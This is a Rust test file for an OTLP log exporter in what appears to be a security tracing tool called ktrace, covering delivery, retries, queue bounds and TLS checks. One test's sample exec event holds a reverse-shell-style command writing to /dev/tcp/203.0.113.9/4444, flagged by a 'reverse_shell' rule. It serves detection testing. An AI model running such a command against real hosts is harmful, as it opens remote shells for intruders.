//! What is sent to collectors arrives: at a receiver made of the server that opentelemetry-proto generates, and at one
//! that speaks HTTP.
#![allow(clippy::unwrap_used, reason = "tests")]

use std::collections::{HashMap, VecDeque};
use std::net::SocketAddr;
use std::sync::Mutex;
use std::time::Instant;

use opentelemetry_proto::tonic::collector::logs::v1::ExportLogsServiceRequest;
use opentelemetry_proto::tonic::collector::logs::v1::logs_service_server::{LogsService, LogsServiceServer};
use opentelemetry_proto::tonic::common::v1::any_value::Value as Any;
use opentelemetry_proto::tonic::common::v1::{AnyValue, KeyValue};
use opentelemetry_proto::tonic::logs::v1::LogRecord;
use tokio::sync::mpsc::{Receiver, channel};
use tonic::transport::{Identity, Server as Grpcs, ServerTlsConfig};
use tonic::{Code, Request, Response, Status};

use super::grpc::{Any as Detail, Delay, Details, RetryInfo};
use super::*;
use crate::detect::Severity;
use crate::feed::item::Sort;
use crate::feed::queue::Room;
use crate::feed::tests::papers::Papers;
use crate::feed::tests::server::{Answer, Server};
use crate::feed::tests::{finish, item, wait};
use crate::feed::{Feed, Reason, Said};

/// A collector: what it was sent, and what it answers first.
#[derive(Clone, Default)]
struct Collector {
    got: Arc<Mutex<Vec<ExportLogsServiceRequest>>>,
    tokens: Arc<Mutex<Vec<Option<String>>>>,
    answers: Arc<Mutex<VecDeque<Result<ExportLogsServiceResponse, Status>>>>,
    slow: Option<Duration>,
}

#[tonic::async_trait]
impl LogsService for Collector {
    async fn export(
        &self,
        request: Request<ExportLogsServiceRequest>,
    ) -> Result<Response<ExportLogsServiceResponse>, Status> {
        let token = request.metadata().get("x-token").map(|token| token.to_str().unwrap().to_owned());
        self.tokens.lock().unwrap().push(token);
        if let Some(slow) = self.slow {
            tokio::time::sleep(slow).await;
        }
        let answer = self.answers.lock().unwrap().pop_front().unwrap_or(Ok(Default::default()))?;
        self.got.lock().unwrap().push(request.into_inner());
        Ok(Response::new(answer))
    }
}

impl Collector {
    fn answering(answers: impl IntoIterator<Item = Result<ExportLogsServiceResponse, Status>>) -> Collector {
        Collector { answers: Arc::new(Mutex::new(answers.into_iter().collect())), ..Collector::default() }
    }

    /// Listens on loopback for as long as the test lives.
    fn listen(&self) -> SocketAddr {
        self.listen_with(None)
    }

    /// The same, and shows a certificate first.
    fn listen_with(&self, papers: Option<&Papers>) -> SocketAddr {
        let tls = papers.map(|papers| {
            let identity = Identity::from_pem(&papers.certificate, &papers.key);
            ServerTlsConfig::new().identity(identity)
        });
        let (say, address) = std::sync::mpsc::channel();
        let service = LogsServiceServer::new(self.clone());
        std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
            runtime.block_on(async {
                let incoming = tonic::transport::server::TcpIncoming::bind(([127, 0, 0, 1], 0).into()).unwrap();
                say.send(incoming.local_addr().unwrap()).unwrap();
                let mut grpcs = Grpcs::builder();
                if let Some(tls) = tls {
                    grpcs = grpcs.tls_config(tls).unwrap();
                }
                grpcs.add_service(service).serve_with_incoming(incoming).await.unwrap();
            });
        });
        address.recv().unwrap()
    }

    fn records(&self) -> Vec<LogRecord> {
        let got = self.got.lock().unwrap();
        let scopes = got.iter().flat_map(|request| &request.resource_logs).flat_map(|resource| &resource.scope_logs);
        scopes.flat_map(|scope| scope.log_records.clone()).collect()
    }
}

fn feed(url: &str) -> (Feed, Receiver<Said>) {
    let (say, said) = channel(64);
    let token = [("x-token".to_owned(), "open".to_owned())];
    let sink = Otlp::new(url, None, &token, None).unwrap();
    (Feed::start("otlp", sink, Room::default(), say).unwrap(), said)
}

fn http(server: &Server) -> (Feed, Receiver<Said>) {
    let (say, said) = channel(64);
    let sink = Otlp::new(&server.url(""), Some(Protocol::Http), &[], None).unwrap();
    (Feed::start("otlp", sink, Room::default(), say).unwrap(), said)
}

/// The lines of docs/JSON.md that an agent sends, as it would.
fn lines() -> Vec<Arc<Outgoing>> {
    let document = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/JSON.md"));
    let lines = document.lines().filter(|line| line.starts_with("{\"type\":")).zip(1..);
    lines
        .filter_map(|(line, number)| {
            let value: serde_json::Value = serde_json::from_str(line).unwrap();
            let sort = match Sort::ALL.iter().find(|sort| value["type"] == sort.name()) {
                Some(sort) => *sort,
                None if value["type"] == "audit" => return None,
                None => panic!("{line} is of no sort"),
            };
            let severity = (value["severity"] == "critical").then_some(Severity::Critical);
            Some(Arc::new(Outgoing { severity, line: line.into(), ..(*item(sort, number)).clone() }))
        })
        .collect()
}

fn text(value: &Option<AnyValue>) -> String {
    match value.as_ref().and_then(|value| value.value.as_ref()) {
        Some(Any::StringValue(text)) => text.clone(),
        Some(Any::IntValue(number)) => number.to_string(),
        Some(Any::ArrayValue(list)) => {
            list.values.iter().map(|value| text(&Some(value.clone()))).collect::<Vec<_>>().join("|")
        }
        other => panic!("{other:?}"),
    }
}

fn attributes(of: &[KeyValue]) -> HashMap<String, String> {
    of.iter().map(|pair| (pair.key.clone(), text(&pair.value))).collect()
}

#[test]
fn every_line_arrives_with_the_names_of_the_semantic_conventions() {
    let collector = Collector::default();
    let (feed, _said) = feed(&format!("http://{}", collector.listen()));
    let lines = lines();
    lines.iter().for_each(|item| feed.offer(item));
    finish(feed);
    let records = collector.records();
    assert_eq!(records.len(), lines.len());
    assert_eq!(*collector.tokens.lock().unwrap(), [Some("open".to_owned())], "one request, with its header");
    let resource = collector.got.lock().unwrap()[0].resource_logs[0].resource.clone().unwrap();
    let resource = attributes(&resource.attributes);
    assert_eq!((resource["service.name"].as_str(), resource["host.name"].as_str()), ("ktrace-tui", "n"));
    let named = |name: &str| records.iter().find(|record| record.event_name == name).unwrap();
    let exec = attributes(&named("ktrace.event.exec").attributes);
    for (name, value) in [
        ("process.pid", "4242"),
        ("process.parent_pid", "902"),
        ("process.executable.path", "/usr/bin/bash"),
        ("process.executable.name", "bash"),
        ("process.command_args", r"bash|-c|printf '\xff' > /dev/tcp/203.0.113.9/4444"),
        ("process.working_directory", "/srv"),
        ("process.real_user.id", "33"),
        ("container.name", "web"),
        ("container.image.name", "nginx:1.29"),
        ("container.runtime.name", "docker"),
    ] {
        assert_eq!(exec[name], value, "{name}");
    }
    let connect = attributes(&named("ktrace.event.connect").attributes);
    for (name, value) in [
        ("network.peer.address", "203.0.113.9"),
        ("network.peer.port", "4444"),
        ("network.transport", "tcp"),
        ("network.type", "ipv4"),
    ] {
        assert_eq!(connect[name], value, "{name}");
    }
    assert_eq!(attributes(&named("ktrace.event.exit").attributes)["process.exit.code"].parse(), Ok(0_u8));
    let finding = named("ktrace.finding");
    assert_eq!((finding.severity_number, finding.severity_text.as_str()), (21, "critical"));
    assert!(text(&finding.body).contains("takes its commands from"), "{finding:?}");
    assert_eq!(attributes(&finding.attributes)["ktrace.rule"], "reverse_shell");
    assert_eq!(named("ktrace.loss").severity_number, 13);
    assert!(records.iter().all(|record| attributes(&record.attributes).contains_key("ktrace.line")));
}

#[test]
fn a_collector_that_is_busy_gets_it_later() {
    let info = RetryInfo { delay: Some(Delay { seconds: 1, nanos: 0 }) };
    let any = Detail { type_url: "type.googleapis.com/google.rpc.RetryInfo".to_owned(), value: info.encode_to_vec() };
    let details = Details { details: vec![any] }.encode_to_vec();
    let full = Status::with_details(Code::ResourceExhausted, "slow down", details.into());
    let collector = Collector::answering([Err(full), Err(Status::unavailable("restarting"))]);
    let (feed, mut said) = feed(&format!("http://{}", collector.listen()));
    let began = Instant::now();
    feed.offer(&lines()[0]);
    wait("the line", || feed.counts().sent(Sort::Event) == 1);
    assert!(began.elapsed() >= Duration::from_secs(1), "not before it was asked to");
    assert_eq!((collector.records().len(), feed.counts().retried()), (1, 2));
    finish(feed);
    let said: Vec<_> = std::iter::from_fn(|| said.try_recv().ok()).map(|said| said.text).collect();
    let expected = ["answered ResourceExhausted: slow down", "answered Unavailable: restarting", "sends again"];
    assert_eq!(said, expected);
}

#[test]
fn what_a_collector_refuses_is_counted() {
    let partial = ExportLogsPartialSuccess { rejected_log_records: 2, error_message: "too old".to_owned() };
    let partial = ExportLogsServiceResponse { partial_success: Some(partial) };
    let collector = Collector::answering([Ok(partial), Err(Status::invalid_argument("no"))]);
    let (feed, mut said) = feed(&format!("http://{}", collector.listen()));
    (1..=5).for_each(|number| feed.offer(&item(Sort::Event, number)));
    wait("the refusal", || feed.counts().lost(Sort::Event, Reason::Refused) == 2);
    assert_eq!(feed.counts().sent(Sort::Event), 3);
    feed.offer(&item(Sort::Finding, 6));
    wait("the other", || feed.counts().lost(Sort::Finding, Reason::Refused) == 1);
    finish(feed);
    let said: Vec<_> = std::iter::from_fn(|| said.try_recv().ok()).map(|said| said.text).collect();
    assert_eq!(said, ["2 refused: too old"], "not for each answer: what is told is sent, too");
}

#[test]
fn a_collector_that_comes_later_gets_what_waited() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    drop(listener);
    let (feed, _said) = feed(&format!("http://{address}"));
    feed.offer(&item(Sort::Finding, 1));
    wait("the trouble", || !feed.counts().is_well());
    let collector = Collector::default();
    let service = LogsServiceServer::new(collector.clone());
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        runtime.block_on(Grpcs::builder().add_service(service).serve(address)).unwrap();
    });
    wait("the line", || feed.counts().sent(Sort::Finding) == 1);
    assert_eq!(collector.records().len(), 1);
    finish(feed);
}

#[test]
fn a_slow_collector_holds_up_nobody_and_memory_stays_bounded() {
    let collector = Collector { slow: Some(Duration::from_secs(30)), ..Collector::default() };
    let (say, _said) = channel(64);
    let sink = Otlp::new(&format!("http://{}", collector.listen()), None, &[], None).unwrap();
    let room = Room { items: 1_000, bytes: 50_000 };
    let feed = Feed::start("otlp", sink, room, say).unwrap();
    let began = Instant::now();
    (1..=50).for_each(|number| feed.offer(&item(Sort::Finding, number)));
    (51..=20_000).for_each(|number| feed.offer(&item(Sort::Event, number)));
    assert!(began.elapsed() < Duration::from_secs(5), "offering waits for nobody: {:?}", began.elapsed());
    let depth = feed.depth();
    assert!(depth.items <= 1_000 && depth.bytes <= 50_000, "{depth:?}");
    assert_eq!(feed.counts().lost(Sort::Finding, Reason::QueueFull), 0, "findings are last to go");
    assert!(feed.counts().lost(Sort::Event, Reason::QueueFull) > 10_000);
    let end = Instant::now() + Duration::from_millis(300);
    feed.close(end);
    feed.join(end);
    assert!(end.elapsed() < Duration::from_secs(5));
}

#[test]
fn a_collector_that_speaks_http_gets_protobuf() {
    let server = Server::answering([]);
    let (feed, _said) = http(&server);
    feed.offer(&item(Sort::Finding, 1));
    finish(feed);
    let asked = server.asked.lock().unwrap();
    assert!(asked[0].head.starts_with("post /v1/logs http/1.1\r\n"), "{}", asked[0].head);
    assert!(asked[0].head.contains("content-type: application/x-protobuf\r\n"), "{}", asked[0].head);
    let request = ExportLogsServiceRequest::decode(&asked[0].body[..]).unwrap();
    assert_eq!(request.resource_logs[0].scope_logs[0].log_records.len(), 1);
}

#[test]
fn over_http_what_is_busy_is_tried_again_and_what_is_refused_is_counted() {
    let partial = ExportLogsPartialSuccess { rejected_log_records: 1, error_message: "too old".to_owned() };
    let partial = ExportLogsServiceResponse { partial_success: Some(partial) }.encode_to_vec();
    let server = Server::answering([
        Answer::Says("429 Too Many Requests\r\nRetry-After: 1", Vec::new()),
        Answer::Says("503 Service Unavailable", Vec::new()),
        Answer::Silence(Duration::from_millis(10)),
        Answer::Says("200 OK", partial),
        Answer::Says("400 Bad Request", Vec::new()),
    ]);
    let (feed, _said) = http(&server);
    let began = Instant::now();
    feed.offer(&item(Sort::Finding, 1));
    wait("the refusal", || feed.counts().lost(Sort::Finding, Reason::Refused) == 1);
    assert!(began.elapsed() >= Duration::from_secs(1), "not before it was asked to");
    assert_eq!(feed.counts().retried(), 3);
    feed.offer(&item(Sort::Finding, 2));
    wait("the next", || feed.counts().lost(Sort::Finding, Reason::Refused) == 2);
    assert_eq!(server.asked.lock().unwrap().len(), 5);
    finish(feed);
}

#[test]
fn the_port_says_which_protocol_it_is() {
    let is_http = |url: &str| matches!(Otlp::new(url, None, &[], None).unwrap().to, To::Http(..));
    assert!(is_http("http://localhost:4318") && is_http("http://localhost:4318/otlp/v1/logs"));
    assert!(!is_http("http://localhost:4317"));
    assert!(Otlp::new("localhost:4317", None, &[], None).is_err());
    assert!(Otlp::new("http://localhost:4318", None, &[("a b".to_owned(), String::new())], None).is_err());
}

#[test]
fn a_collector_with_papers_of_the_authority_gets_lines_and_one_with_others_does_not() {
    let (right, wrong) = (Papers::new(), Papers::new());
    let (collector, server) = (Collector::default(), Server::secure(&right));
    let grpc = format!("https://{}", collector.listen_with(Some(&right)));
    let http = server.url("").replace("http:", "https:");
    for (url, protocol) in [(&grpc, Protocol::Grpc), (&http, Protocol::Http)] {
        for authority in [Some(wrong.authority()), None] {
            let (say, mut said) = channel(64);
            let sink = Otlp::new(url, Some(protocol), &[], authority.as_ref()).unwrap();
            let feed = Feed::start("otlp", sink, Room::default(), say).unwrap();
            feed.offer(&item(Sort::Finding, 1));
            wait("the trouble", || !feed.counts().is_well());
            let text = said.try_recv().unwrap().text;
            assert!(text.contains("invalid peer certificate"), "{text}");
            feed.close(Instant::now());
            feed.join(Instant::now());
        }
        let sink = Otlp::new(url, Some(protocol), &[], Some(&right.authority())).unwrap();
        let feed = Feed::start("otlp", sink, Room::default(), channel(64).0).unwrap();
        feed.offer(&item(Sort::Finding, 2));
        finish(feed);
    }
    assert_eq!((collector.records().len(), server.asked.lock().unwrap().len()), (1, 1));
}

#[test]
fn over_http_a_503_says_when_to_come_back_as_well() {
    let server = Server::answering([Answer::Says("503 Service Unavailable\r\nRetry-After: 1", Vec::new())]);
    let (feed, mut said) = http(&server);
    let began = Instant::now();
    feed.offer(&item(Sort::Finding, 1));
    let counts = Arc::clone(feed.counts());
    wait("the line", || counts.sent(Sort::Finding) == 1);
    assert!(began.elapsed() >= Duration::from_secs(1), "not before it was asked to");
    assert_eq!((counts.retried(), said.try_recv().unwrap().text.as_str()), (1, "answered 503 Service Unavailable"));
    finish(feed);
}
